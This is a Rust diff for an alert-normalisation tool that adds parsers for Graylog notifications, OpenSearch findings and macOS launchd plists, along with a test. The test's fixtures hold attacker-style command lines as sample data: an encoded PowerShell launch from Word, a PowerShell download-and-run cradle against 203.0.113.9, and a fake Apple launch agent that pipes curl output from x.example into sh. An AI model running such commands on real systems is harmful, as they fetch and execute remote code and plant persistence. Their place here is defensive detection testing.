@@ -274,6 +274,34 @@ pub fn from_json_expanded(doc: Json, position: &str) -> Vec<Result<Alert, BadAle
             &doc,
         );
     }
+    // A Graylog event notification: one alert per backlogged message.
+    if let Json::Object(o) = &doc
+        && let Some(messages) = siem::graylog_backlog(o)
+    {
+        let total = messages.len();
+        return each_capped(
+            messages.into_iter(),
+            total,
+            position,
+            ("backlog message", "backlog messages"),
+            "the notification holds {total} backlog messages; the first {max} were taken as alerts and these were not: lower the event definition's backlog size to run them",
+            &doc,
+        );
+    }
+    // OpenSearch Security Analytics findings: one alert per finding's matched document.
+    if let Json::Object(o) = &doc
+        && let Some(found) = siem::opensearch_findings(o)
+    {
+        let total = found.len();
+        return each_capped(
+            found.into_iter(),
+            total,
+            position,
+            ("finding", "findings"),
+            "the response holds {total} findings; the first {max} were taken as alerts and these were not: page the search (startIndex, size) to run them",
+            &doc,
+        );
+    }
     // An osquery snapshot: one alert per row.
     if let Json::Object(o) = &doc
         && let Some(rows) = edr::osquery_snapshot_rows(o)
@@ -666,6 +694,7 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
         siem::trend_detection,
         siem::sekoia_alert,
         siem::exchange_cmdlet,
+        edr::launchd_plist,
         edr::log_lines,
     ] {
         if let Some((ecs, vid)) = adapter(&obj) {
@@ -3030,6 +3059,79 @@ mod tests {
         assert_eq!(
             cs.doc["process"]["executable"],
             "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+        );
+    }
+
+    #[test]
+    fn graylog_notifications_opensearch_findings_and_launchd_plists_are_read() {
+        // Graylog's event notification: one alert per backlog message; winlogbeat's fields
+        // flattened with underscores read as the Windows event; JSON text in `message` as that
+        // document, with the message's source as host.
+        let out = from_json_expanded(
+            json!({"event_definition_id": "e1", "event_definition_title": "Office spawned PowerShell",
+                "event": {"id": "01J", "fields": {"host": "FIN-1"}},
+                "backlog": [
+                    {"_id": "m1", "source": "FIN-1", "message": "Process Create: …", "winlog_event_id": 1,
+                     "winlog_computer_name": "FIN-1.corp", "winlog_channel": "Microsoft-Windows-Sysmon/Operational",
+                     "winlog_event_data_Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                     "winlog_event_data_CommandLine": "powershell.exe -nop -enc AA==",
+                     "winlog_event_data_ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+                     "winlog_event_data_User": "CORP\\rk"},
+                    {"_id": "m2", "source": "ci-2", "message": "{\"SYSCALL\":{\"comm\":\"python3\",\"exe\":\"/usr/bin/python3\",\"UID\":\"gl\"},\"EXECVE\":{\"argc\":2,\"ARGV\":[\"python3\",\"x.py\"]}}"}]}),
+            "document",
+        );
+        assert_eq!(out.len(), 2);
+        let w = out[0].as_ref().unwrap();
+        assert_eq!(
+            w.doc["process"]["command_line"],
+            "powershell.exe -nop -enc AA=="
+        );
+        assert_eq!(w.doc["process"]["parent"]["name"], "WINWORD.EXE");
+        assert_eq!(out[0].as_ref().unwrap().doc["host"]["name"], "FIN-1.corp");
+        let l = out[1].as_ref().unwrap();
+        assert_eq!(l.doc["process"]["command_line"], "python3 x.py");
+        assert_eq!(l.doc["host"]["name"], "ci-2");
+        // OpenSearch Security Analytics findings: the matched document, the rules' techniques.
+        let doc = json!({"@timestamp": "2025-03-30T21:47:12Z", "host": {"name": "DC01"},
+            "winlog": {"event_id": "4104", "channel": "Microsoft-Windows-PowerShell/Operational",
+                "event_data": {"ScriptBlockText": "IEX (iwr http://203.0.113.9/a.ps1)", "ScriptBlockId": "b1"}},
+            "user": {"name": "Administrator"},
+            "message": "Creating Scriptblock text (1 of 1):\nIEX (iwr http://203.0.113.9/a.ps1)\n\nScriptBlock ID: b1\nPath: "});
+        let out = from_json_expanded(
+            json!({"total_findings": 1, "findings": [{"id": "f1", "queries": [
+                {"name": "PowerShell cradle", "tags": ["high", "attack.execution", "attack.t1059.001"]}],
+                "document_list": [{"id": "d1", "found": true, "document": doc.to_string()}]}]}),
+            "document",
+        );
+        assert_eq!(out.len(), 1);
+        let f = out[0].as_ref().unwrap();
+        assert_eq!(
+            f.doc["powershell"]["file"]["script_block_text"],
+            "IEX (iwr http://203.0.113.9/a.ps1)"
+        );
+        assert_eq!(
+            f.doc["user"]["name"], "Administrator",
+            "the document's own fields, not its message line"
+        );
+        assert_eq!(f.doc["threat"]["technique"]["id"], json!(["T1059.001"]));
+        // A launch agent's plist as a collector reports it: the job launchd will start.
+        let p = from_json(
+            json!({"FullPath": "/Users/ns/Library/LaunchAgents/com.apple.x.plist", "Fqdn": "MBP-1.local",
+                "LaunchdConfig": {"Label": "com.apple.x", "RunAtLoad": true,
+                    "ProgramArguments": ["/bin/bash", "-c", "curl -s \"https://x.example/a\" | sh"]}}),
+            "x",
+        )
+        .unwrap();
+        assert_eq!(
+            p.doc["process"]["command_line"],
+            "/bin/bash -c 'curl -s \"https://x.example/a\" | sh'"
+        );
+        assert_eq!(p.doc["process"]["parent"]["name"], "launchd");
+        assert_eq!(p.doc["user"]["name"], "ns");
+        assert_eq!(p.doc["host"]["name"], "MBP-1.local");
+        assert_eq!(
+            p.doc["file"]["path"],
+            "/Users/ns/Library/LaunchAgents/com.apple.x.plist"
         );
     }
 
